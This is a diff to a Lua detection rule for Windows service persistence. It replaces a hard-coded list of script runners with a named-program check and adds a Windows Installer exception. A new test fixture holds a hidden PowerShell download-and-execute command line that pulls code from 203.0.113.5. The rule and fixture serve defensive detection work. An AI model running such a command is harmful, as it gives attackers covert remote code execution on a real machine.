@@ -4,13 +4,12 @@ local command = require "kaiseki.detect.command"
 local dropped = require "kaiseki.detect.dropped"
 local lineage = require "kaiseki.detect.lineage"
 local memory = require "kaiseki.detect.memory"
+local programs = require "kaiseki.detect.programs"
 local say = require "kaiseki.detect.say"
 local setup = require "kaiseki.detect.setup"
 local windows = require "kaiseki.detect.windows"
 
 local ID = "persistence.service"
-
-local RUNNERS = { cmd = true, powershell = true, pwsh = true, rundll32 = true, mshta = true, regsvr32 = true }
 
 -- Who asked for a service of that name on a command line.
 local asked, told = memory.of_case(), memory.of_case()
@@ -23,6 +22,13 @@ local function plain_path(data)
     return (data:gsub("^\\%?%?\\", ""):gsub('^"', ""):gsub('".*$', ""))
 end
 
+-- Windows Installer is a service of its own.
+local function runs_another(data)
+    local first = command.all(data)[1]
+    return first ~= nil and programs.named(first.program, "runner")
+        and not (first.program == "msiexec" and first:has "/v" and #first.words == 2)
+end
+
 -- A program that came into Windows' folders in the capture writes there as one from a user's folder does.
 local function is_planted(case, process)
     local file = dropped.image(case, process)
@@ -31,8 +37,7 @@ end
 
 local function is_suspect(data, case, index)
     if windows.in_user_place(data, case) then return true end
-    local first = command.all(data)[1]
-    if first and RUNNERS[first.program] then return true end
+    if runs_another(data) then return true end
     local file = dropped.file(case, plain_path(data), index)
     local maker = file and not dropped.by_installer(file) and dropped.maker(file)
     return maker and (windows.in_user_place(say.image(maker), case) or is_planted(case, maker)) or false
@@ -110,6 +115,9 @@ rule {
               ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[C:\Users\x\AppData\Local\Temp\abc.exe]] },
             { operation = "Process Create", path = [[C:\Windows\System32\sc.exe]], ["process.name"] = "a.exe",
               ["child.command_line"] = [[sc create abc binPath= "C:\ProgramData\abc.exe" start= auto]] },
+            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
+              path = [[HKLM\System\CurrentControlSet\Services\abc\ImagePath]], ["registry.type"] = "REG_EXPAND_SZ",
+              ["registry.data"] = "conhost.exe --headless powershell -w hidden -c iex(irm 203.0.113.5)" },
         },
         no_match = {
             { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
@@ -118,6 +126,9 @@ rule {
             { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "services.exe",
               path = [[HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\x]],
               ["registry.type"] = "REG_BINARY", ["registry.data"] = "00" },
+            { operation = "RegSetValue", result = "SUCCESS", ["process.name"] = "TiWorker.exe",
+              path = [[HKLM\System\CurrentControlSet\Services\msiserver\ImagePath]],
+              ["registry.type"] = "REG_EXPAND_SZ", ["registry.data"] = [[%systemroot%\system32\msiexec.exe /V]] },
         },
     },
 }
